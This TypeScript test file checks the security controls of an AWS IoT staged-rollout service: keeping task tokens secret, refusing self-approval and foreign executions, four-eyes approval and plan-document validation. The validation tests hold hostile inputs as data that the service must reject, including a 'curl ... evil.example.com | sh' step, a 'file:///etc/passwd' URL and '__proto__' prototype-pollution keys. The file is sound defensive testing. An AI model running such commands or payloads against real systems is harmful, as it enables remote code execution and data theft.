import { EventBridgeClient, PutEventsCommand } from '@aws-sdk/client-eventbridge';
import {
  CreateJobCommand,
  DescribeJobCommand,
  IoTClient,
  ListThingsInThingGroupCommand,
} from '@aws-sdk/client-iot';
import {
  SendTaskFailureCommand,
  SendTaskSuccessCommand,
  SFNClient,
  StartExecutionCommand,
} from '@aws-sdk/client-sfn';
import { PublishCommand, SNSClient } from '@aws-sdk/client-sns';
import { DynamoDBDocumentClient, GetCommand, ScanCommand } from '@aws-sdk/lib-dynamodb';
import { mockClient } from 'aws-sdk-client-mock';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { lambdaContext } from '../helpers/lambda';
import { startLocalDynamoDb } from '../helpers/local-dynamodb';
import { ALICE, apiRequest, BOB, ENV, executionOf, startedExecution, terminalEvent } from './rollout-harness';

// Issue 13, finding 1: the reproductions, as the handlers see them on the local DynamoDB. A token sent by
// someone else, an execution started by someone else, a halted rollout restarted: nothing moves.

const iot = mockClient(IoTClient);
const sfn = mockClient(SFNClient);
const bus = mockClient(EventBridgeClient);
const sns = mockClient(SNSClient);
type Handler = (event: unknown, context: unknown) => Promise<Record<string, unknown>>;
let db: Awaited<ReturnType<typeof startLocalDynamoDb>>;
let docs: DynamoDBDocumentClient;
let api: Handler;
let steps: Handler;
let tracker: Handler;

const T0 = Date.UTC(2026, 0, 1);
const context = lambdaContext('rollout');
const iso = (t: number) => new Date(t).toISOString();
/** Things in each stage: enough that all of them succeeding promotes (upper bound below 5 %). */
const THINGS = 100;

beforeAll(async () => {
  db = await startLocalDynamoDb();
  docs = DynamoDBDocumentClient.from(db.client);
  Object.assign(process.env, ENV, { AWS_ENDPOINT_URL_DYNAMODB: db.endpoint });
  const load = async (name: string) =>
    ((await import(`../../functions/${name}`)) as { handler: Handler }).handler;
  [api, steps, tracker] = await Promise.all([
    load('rollout-api'),
    load('rollout-steps'),
    load('rollout-tracker'),
  ]);
});
afterAll(async () => db.close());
beforeEach(() => {
  for (const m of [iot, sfn, bus, sns]) m.reset();
  iot
    .on(ListThingsInThingGroupCommand)
    .resolves({ things: Array.from({ length: THINGS }, (_, i) => `thing-${i}`) });
  iot.on(CreateJobCommand).resolves({});
  sfn.on(StartExecutionCommand).callsFake(startedExecution);
  sfn.on(SendTaskSuccessCommand).resolves({});
  sfn.on(SendTaskFailureCommand).resolves({});
  bus.on(PutEventsCommand).resolves({ FailedEntryCount: 0, Entries: [] });
  sns.on(PublishCommand).resolves({});
});

const scan = async (table: string) => (await docs.send(new ScanCommand({ TableName: table }))).Items ?? [];
const auditActions = async (rolloutId: string) =>
  (await scan('AuditTable')).filter((r) => r.pk === `ROLLOUT#${rolloutId}`);
const item = async (pk: string, sk: string) =>
  (await docs.send(new GetCommand({ TableName: 'StateTable', Key: { pk, sk } }))).Item ?? {};
const rolloutItem = (id: string) => item(`ROLLOUT#${id}`, 'ROLLOUT');
/** The rollout's parked task tokens (the table is shared by the tests of this file). */
const tokensOf = async (id: string) => (await scan('TaskTokensTable')).filter((t) => t.rolloutId === id);

/** Creates a two-stage rollout through the API and runs stage 0 up to its gate wait. */
async function startRollout(name: string, approvalRequired: boolean, creator = ALICE) {
  const plan = {
    name,
    document: { op: 'update' },
    stages: [
      { name: 'canary', targets: ['ring-canary'], approval: { required: approvalRequired } },
      { name: 'fleet', targets: ['ring-fleet'] },
    ],
  };
  const created = await api(apiRequest('POST /rollouts', creator, { body: plan }), context);
  expect(created.statusCode, String(created.body)).toBe(201);
  const { rolloutId } = JSON.parse(String(created.body)) as { rolloutId: string };
  const executionId = executionOf(rolloutId);
  const step = (action: string, extra: Record<string, unknown> = {}, at = T0) =>
    steps({ action, rolloutId, stageIndex: 0, now: iso(at), executionId, ...extra }, context);
  await step('startStage');
  await step('awaitGate', { token: `TOKEN-SECRET-gate-${name}` });
  return { rolloutId, executionId, step };
}

/**
 * Every target of stage 0 succeeds after the bake: the tracker sees the events (and wakes the gate
 * wait), and Reconcile, on DescribeJob, records the gate's decision, PROMOTE.
 */
async function passGate(rolloutId: string) {
  const at = T0 + 31 * 60_000;
  iot.on(DescribeJobCommand).resolves({
    job: {
      status: 'IN_PROGRESS',
      jobProcessDetails: { numberOfSucceededThings: THINGS, numberOfQueuedThings: 0 },
    },
  });
  for (let i = 0; i < THINGS; i++)
    await tracker(terminalEvent(`${rolloutId}-s0`, `thing-${i}`, 'SUCCEEDED', at + i), context);
  const executionId = executionOf(rolloutId);
  await steps({ action: 'reconcile', rolloutId, stageIndex: 0, now: iso(at + 60_000), executionId }, context);
  expect((await item(`ROLLOUT#${rolloutId}`, 'STAGE#000')).lastOutcome).toBe('PROMOTE');
}

describe('task tokens', () => {
  it('never reach the state table, and are deleted when used', async () => {
    const { rolloutId, step } = await startRollout('tokens', true);
    expect(JSON.stringify(await scan('StateTable'))).not.toContain('TOKEN-SECRET');
    expect((await tokensOf(rolloutId)).map((t) => t.token)).toEqual(['TOKEN-SECRET-gate-tokens']);

    await passGate(rolloutId); // the tracker claims the gate token and wakes the execution
    expect(sfn.commandCalls(SendTaskSuccessCommand).map((c) => c.args[0].input.taskToken)).toEqual([
      'TOKEN-SECRET-gate-tokens',
    ]);
    expect(await tokensOf(rolloutId)).toEqual([]);
    expect(JSON.stringify(await scan('StateTable'))).not.toContain('TOKEN-SECRET');

    await step('requestApproval', { kind: 'promote', token: 'TOKEN-SECRET-approval' }, T0 + 32 * 60_000);
    const approval = await item(`ROLLOUT#${rolloutId}`, 'APPROVAL#000#promote');
    expect(approval.status).toBe('PENDING');
    expect(JSON.stringify(await scan('StateTable'))).not.toContain('TOKEN-SECRET');

    const approved = await api(apiRequest('POST /rollouts/{id}/approve', BOB, { id: rolloutId }), context);
    expect(approved.statusCode).toBe(200);
    expect(sfn.commandCalls(SendTaskSuccessCommand).at(-1)?.args[0].input.taskToken).toBe(
      'TOKEN-SECRET-approval',
    );
    expect(await tokensOf(rolloutId)).toEqual([]);
  });
});

describe('promotion is re-derived from the state table', () => {
  it("refuses an approval token sent while the approval is pending (the creator's self-approval)", async () => {
    const { rolloutId, step } = await startRollout('self-approval', true);
    await passGate(rolloutId);
    await step('requestApproval', { kind: 'promote', token: 'TOKEN-SECRET-self' }, T0 + 32 * 60_000);
    // The creator sent SendTaskSuccess with the approval token: Step Functions moves on to Promote.
    const claimed = { approval: { decision: 'approved', by: ALICE } };
    await expect(step('promote', { state: claimed }, T0 + 33 * 60_000)).rejects.toMatchObject({
      name: 'PromotionRefusedError',
    });
    expect(await item(`ROLLOUT#${rolloutId}`, 'STAGE#000')).toMatchObject({ status: 'RUNNING' });
    expect(await rolloutItem(rolloutId)).toMatchObject({ currentStage: 0, status: 'RUNNING' });
    expect(await item(`ROLLOUT#${rolloutId}`, 'APPROVAL#000#promote')).toMatchObject({ status: 'PENDING' });
    const refusal = (await auditActions(rolloutId)).find((r) => r.action === 'rollout.promotion.refused');
    expect(refusal).toMatchObject({
      outcome: 'rejected',
      details: { reason: 'not-approved', claimed: { decision: 'approved', by: ALICE } },
    });
    expect(sns.commandCalls(PublishCommand).at(-1)?.args[0].input.Subject).toMatch(/promotion refused/);

    // The state machine catches PromotionRefusedError into Halt: the job is cancelled, the reason kept.
    await step('halt', { state: { error: { Error: 'PromotionRefusedError', Cause: 'refused' } } });
    expect(await rolloutItem(rolloutId)).toMatchObject({ status: 'HALTED', reason: 'promotion-refused' });
  });

  it('refuses a promotion the stage never earned: no approval record, or a gate still deciding', async () => {
    const asked = await startRollout('no-record', true);
    await passGate(asked.rolloutId);
    // An approval-kind wake-up without any approval request: nothing in the record says APPROVED.
    await expect(asked.step('promote', {}, T0 + 33 * 60_000)).rejects.toMatchObject({
      name: 'PromotionRefusedError',
    });

    const early = await startRollout('gate-continue', false);
    // A gate token answered with PROMOTE while the stage's gate has decided nothing of the kind.
    expect((await item(`ROLLOUT#${early.rolloutId}`, 'STAGE#000')).lastOutcome).not.toBe('PROMOTE');
    await expect(early.step('promote', {}, T0 + 60_000)).rejects.toMatchObject({
      name: 'PromotionRefusedError',
    });
    const refusal = (await auditActions(early.rolloutId)).find(
      (r) => r.action === 'rollout.promotion.refused',
    );
    expect(refusal?.details).toMatchObject({ reason: 'gate-not-passed' });
    // And no approval request is made on a gate that did not pass.
    await expect(
      early.step('requestApproval', { kind: 'promote', token: 'TOKEN-SECRET-x' }, T0 + 60_000),
    ).rejects.toMatchObject({ name: 'PromotionRefusedError' });
    expect(await item(`ROLLOUT#${early.rolloutId}`, 'APPROVAL#000#promote')).toEqual({});
  });

  it('promotes once the approval is APPROVED by another person, and drops the stage tokens', async () => {
    const { rolloutId, step } = await startRollout('approved', true);
    await passGate(rolloutId);
    await step('requestApproval', { kind: 'promote', token: 'TOKEN-SECRET-ok' }, T0 + 32 * 60_000);
    expect(
      (await api(apiRequest('POST /rollouts/{id}/approve', BOB, { id: rolloutId }), context)).statusCode,
    ).toBe(200);
    expect(await step('promote', {}, T0 + 33 * 60_000)).toEqual({ nextStageIndex: 1 });
    // A retry of the same visit (the Lambda answered, the answer was lost) finds it done.
    expect(await step('promote', {}, T0 + 33 * 60_000)).toEqual({ nextStageIndex: 1 });
    expect(await rolloutItem(rolloutId)).toMatchObject({ currentStage: 1 });
    expect(await item(`ROLLOUT#${rolloutId}`, 'STAGE#000')).toMatchObject({ status: 'PROMOTED' });
    expect(await tokensOf(rolloutId)).toEqual([]);
  });
});

describe('executions the rollout API did not start', () => {
  it('do nothing to a halted rollout, or to any other, and are audited', async () => {
    const { rolloutId, step, executionId } = await startRollout('halted', false);
    await step('halt', { state: { gate: { outcome: 'HALT' } } });
    expect(await rolloutItem(rolloutId)).toMatchObject({ status: 'HALTED', executionArn: executionId });
    const jobsBefore = iot.commandCalls(CreateJobCommand).length;

    // `aws stepfunctions start-execution --input '{"rolloutId": <halted>, "stageIndex": 1}'`
    const foreign = 'arn:aws:states:us-east-1:123456789012:execution:staged-rollout:restart-1';
    for (const action of ['checkpoint', 'startStage', 'promote']) {
      await expect(
        steps({ action, rolloutId, stageIndex: 1, now: iso(T0 + 3_600_000), executionId: foreign }, context),
      ).rejects.toMatchObject({ name: 'ExecutionRefusedError' });
    }
    // Its own execution cannot move a closed rollout either.
    await expect(
      steps({ action: 'checkpoint', rolloutId, stageIndex: 1, now: iso(T0), executionId }, context),
    ).rejects.toMatchObject({ name: 'ExecutionRefusedError' });
    // Nor can anyone name a rollout that does not exist.
    await expect(
      steps(
        {
          action: 'startStage',
          rolloutId: 'nope-12345678',
          stageIndex: 0,
          now: iso(T0),
          executionId: foreign,
        },
        context,
      ),
    ).rejects.toMatchObject({ name: 'ExecutionRefusedError' });

    expect(iot.commandCalls(CreateJobCommand)).toHaveLength(jobsBefore);
    expect(await item(`ROLLOUT#${rolloutId}`, 'STAGE#001')).toEqual({});
    expect(await rolloutItem(rolloutId)).toMatchObject({ status: 'HALTED', currentStage: 0 });
    const refused = (await auditActions(rolloutId)).filter((r) => r.action === 'rollout.execution.refused');
    expect(refused.map((r) => r.details.reason).sort()).toEqual(['foreign-execution', 'rollout-closed']);
    expect(refused[0]?.details).toMatchObject({ expected: executionId });
  });
});

describe('four-eyes on people, not ARN strings (finding 4)', () => {
  const session = (role: string, name: string) => `arn:aws:sts::123456789012:assumed-role/${role}/${name}`;

  it('refuses a second session of a role, and the creator under another spelling', async () => {
    const { rolloutId, step } = await startRollout('four-eyes', true);
    await passGate(rolloutId);
    await step('requestApproval', { kind: 'promote', token: 'TOKEN-SECRET-4e' }, T0 + 32 * 60_000);
    const approve = (principal: string) =>
      api(apiRequest('POST /rollouts/{id}/approve', principal, { id: rolloutId }), context);

    const second = await approve(session('FleetOperator', 'alice-second-session'));
    expect(second.statusCode).toBe(403);
    expect(JSON.parse(String(second.body)).message).toMatch(/sessionNameRoles.*RoleSessionName/);
    const spelled = await approve('arn:aws:iam::123456789012:user/Alice');
    expect(spelled.statusCode).toBe(403);
    expect(JSON.parse(String(spelled.body)).message).toMatch(/same|creator/);
    const other = await approve('arn:aws:iam::999999999999:user/bob');
    expect(other.statusCode).toBe(403);
    expect(sfn.commandCalls(SendTaskSuccessCommand).map((c) => c.args[0].input.taskToken)).not.toContain(
      'TOKEN-SECRET-4e',
    );
    expect((await approve(BOB)).statusCode).toBe(200);
    expect(await item(`ROLLOUT#${rolloutId}`, 'APPROVAL#000#promote')).toMatchObject({
      decidedBy: BOB,
      decidedByIdentity: 'person:bob',
    });
  });

  it('lets a shared role session start only a rollout that never waits on an approval', async () => {
    const ci = session('Deployer', 'run-42');
    const asking = await api(
      apiRequest('POST /rollouts', ci, {
        body: { name: 'from-ci', document: { op: 'update' }, targets: ['ring-canary'] },
      }),
      context,
    );
    expect(asking.statusCode).toBe(403);
    expect(JSON.parse(String(asking.body)).message).toMatch(/not tied to a person/);
    const quiet = await api(
      apiRequest('POST /rollouts', ci, {
        body: {
          name: 'from-ci',
          document: { op: 'update' },
          targets: ['ring-canary'],
          defaults: { gate: { onInconclusive: 'halt' } },
        },
      }),
      context,
    );
    expect(quiet.statusCode).toBe(201);
    const { rolloutId } = JSON.parse(String(quiet.body)) as { rolloutId: string };
    expect(await rolloutItem(rolloutId)).toMatchObject({ creator: ci, creatorIdentity: 'role:Deployer' });
  });
});

describe('plan documents (low findings)', () => {
  const post = (document: unknown, extra: Record<string, unknown> = {}) =>
    api(
      apiRequest('POST /rollouts', ALICE, {
        body: JSON.stringify({ name: 'doc-check', targets: ['ring-canary'], document, ...extra }),
      }),
      context,
    );
  const issues = async (response: Record<string, unknown>) => {
    expect(response.statusCode, String(response.body)).toBe(400);
    const body = JSON.parse(String(response.body)) as { error: string; issues: string[] };
    expect(body.error).toBe('InvalidPlanError');
    return body.issues.join('\n');
  };

  it('refuses reserved keys anywhere in the document with a typed 400 naming the key', async () => {
    // JSON text: a `__proto__` key must reach the function as the caller wrote it.
    expect(await issues(await post(JSON.parse('{"constructor": {"a": 1}}')))).toMatch(
      /^document\.constructor: "constructor" is a reserved key name/,
    );
    expect(
      await issues(
        await api(
          apiRequest('POST /rollouts', ALICE, {
            body: '{"name":"x","targets":["g"],"document":{"files":[{"__proto__":{"polluted":true}}]}}',
          }),
          context,
        ),
      ),
    ).toMatch(/document\.files\.0\.__proto__: "__proto__" is a reserved key name/);
    expect(await issues(await post({ a: { prototype: 1 } }))).toMatch(/document\.a\.prototype/);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it.each([
    [{ url: 'http://fleet-firmware-artifacts.s3.amazonaws.com/fw.bin' }, /document\.url: .*scheme http/],
    [{ url: 'file:///etc/passwd' }, /document\.url: .*scheme file/],
    [{ url: 'https://other-bucket.s3.amazonaws.com/fw.bin' }, /document\.url: .*bucket "other-bucket"/],
    [{ url: 'https://s3.us-east-1.amazonaws.com/other-bucket/fw.bin' }, /bucket "other-bucket"/],
    [
      { url: `\${aws:iot:s3-presigned-url:https://s3.amazonaws.com/someone-elses/fw.bin}` },
      /document\.url: .*bucket "someone-elses"/,
    ],
    [
      { steps: [{ run: 'curl -s https://evil.example.com/x | sh' }] },
      /document\.steps\[0\]\.run: .*host evil\.example\.com/,
    ],
    [
      { url: 'https://fleet-firmware-artifacts.s3.amazonaws.com@evil.example.com/fw.bin' },
      /credentials|host evil/,
    ],
  ])('refuses the document URL in %j', async (document, expected) => {
    expect(await issues(await post(document))).toMatch(expected);
  });

  it('refuses a documentSource outside the allowed buckets, and accepts allowed URLs', async () => {
    const source = await api(
      apiRequest('POST /rollouts', ALICE, {
        body: {
          name: 'doc-source',
          targets: ['ring-canary'],
          documentSource: 's3://attacker-bucket/job.json',
        },
      }),
      context,
    );
    expect(await issues(source)).toMatch(/^documentSource: S3 bucket "attacker-bucket" is not allowed/);
    const fine = await post({
      url: `\${aws:iot:s3-presigned-url:https://s3.amazonaws.com/fleet-firmware-artifacts/fw/2.5.0.bin}`,
      mirror: 'https://fleet-firmware-artifacts.s3.eu-west-1.amazonaws.com/fw/2.5.0.bin',
    });
    expect(fine.statusCode, String(fine.body)).toBe(201);
  });
});
